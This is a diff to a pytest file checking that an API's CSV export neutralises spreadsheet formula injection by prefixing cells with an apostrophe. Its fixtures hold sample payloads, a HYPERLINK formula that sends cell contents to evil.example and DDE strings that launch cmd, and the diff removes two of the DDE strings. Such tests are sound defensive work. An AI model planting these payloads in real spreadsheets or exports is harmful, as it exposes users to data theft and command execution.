@@ -20,12 +20,11 @@ from .conftest import AUTH, load_fixture, make_settings
 
 pytestmark = pytest.mark.timeout(120)
 
-#: Text a data steward may legitimately type, which a spreadsheet would run as a formula.
+#: Text a data steward may legitimately type, which a spreadsheet would run as a formula. (Funding source and
+#: technology take only their schemes' codes and names now, so a formula there is refused at import.)
 FORMULAS = {
     "name_zh": '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
     "name_en": "+cmd|' /C calc'!A0",
-    "funding_source": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "technology": "-2+3+cmd|' /C calc'!A0",
 }
 VILLAGE = "210123203200"
 LABEL = "=1+2"  # a village label that would be computed
@@ -64,8 +63,6 @@ def test_api_csv_neutralises_formulas_and_keeps_numbers(client: TestClient):
     [row] = [r for r in rows if r["id"] == "INT-FORMULA"]
     assert row["label_zh"] == "'" + FORMULAS["name_zh"]
     assert row["label_en"] == "'" + FORMULAS["name_en"]
-    assert row["fundingSource"] == "'" + FORMULAS["funding_source"]
-    assert row["technology"] == "'" + FORMULAS["technology"]
     assert row["budget"] == "50000"  # a number stays a number
 
 
